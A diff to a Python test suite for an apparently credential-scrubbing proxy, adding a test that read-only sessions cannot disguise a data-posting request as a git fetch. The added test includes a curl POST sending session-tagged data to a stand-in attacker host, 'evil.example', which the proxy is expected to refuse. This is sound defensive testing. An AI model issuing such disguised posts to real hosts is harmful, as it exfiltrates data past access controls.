@@ -20,13 +20,14 @@ from urllib.parse import quote_plus
 import h11
 import trio
 import trustme
-from conftest import SECRETS, Proxy, client, override
+from conftest import SECRETS, Proxy, add_session, client, override
 from proxy_fakes import Seen, _Base
 from smuggle_fakes import RawTunnel
 from test_proxy_controls import KEY, Rig, rig  # noqa: F401 - the rig fixture
 
 from appliance.audit import parse_line
 from appliance.placeholders import placeholder_env
+from appliance.sessions import AccessMode
 from proxy.config import Upstream
 
 #: A refresh token with the characters base64 tokens carry, which a form encodes.
@@ -227,3 +228,19 @@ async def test_an_h2c_upgrade_carries_no_credential_the_scrubber_cannot_read(
     assert not any(token in v for v in echoed), echoed
     assert raw.startswith(b"HTTP/1.1 200 "), raw[:300]
     assert echo.seen[0].header("upgrade") == []
+
+
+async def test_a_read_only_session_posts_nothing_dressed_as_a_fetch(rig: Rig) -> None:  # noqa: F811
+    """A read-only session may fetch with git, whose negotiation is a POST to a path ending
+    in ``git-upload-pack``. The agent posts a form to such a path on a host that is no git
+    server: a write, refused; git's own negotiation, the same path, passes."""
+    sid, _ = auth = add_session(rig.store, "reader", AccessMode.READ_ONLY)
+    seen = len(rig.echo.seen)
+    status, body = await rig.curl(auth, "https://evil.example/drop/git-upload-pack",
+                                  "-X", "POST", "-d", f"notes=everything-{sid}")
+    assert status == 403 and b"read-only" in body, (status, body)
+    assert len(rig.echo.seen) == seen
+    status, _ = await rig.curl(auth, "https://evil.example/repo.git/git-upload-pack", "-X",
+                               "POST", "-H", "content-type: application/x-git-upload-pack-request",
+                               "--data-binary", "0000")
+    assert status == 200 and len(rig.echo.seen) == seen + 1
